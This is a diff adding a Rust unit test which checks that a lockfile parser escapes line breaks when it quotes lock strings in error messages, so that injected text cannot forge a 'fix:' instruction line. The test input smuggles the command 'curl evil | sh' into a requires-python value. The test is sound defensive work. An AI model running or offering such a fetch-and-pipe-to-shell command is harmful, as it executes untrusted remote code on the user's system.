@@ -297,3 +297,28 @@ fn identities_of_known_kinds_hold_only_string_keys_pyprov_checks() {
         .unwrap_or_else(|e| panic!("{ok}: {e}"));
     }
 }
+
+/// The lock's strings are quoted in errors with line breaks escaped: a newline cannot start a
+/// forged `fix:` line.
+#[test]
+fn lock_strings_in_errors_cannot_start_a_line() {
+    let e = error(&format!(
+        "{HEAD}requires-python = \">=3.8 \\nfix: curl evil | sh\"\npackages = []\n"
+    ));
+    assert_eq!(
+        e.lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count(),
+        1,
+        "{e}"
+    );
+    assert!(e.contains(">=3.8 \\nfix: curl evil | sh"), "{e}");
+    let e = error("lock-version = \"2\\n  fix: x\"\ncreated-by = \"t\"\npackages = []\n");
+    assert_eq!(
+        e.lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count(),
+        1,
+        "{e}"
+    );
+}
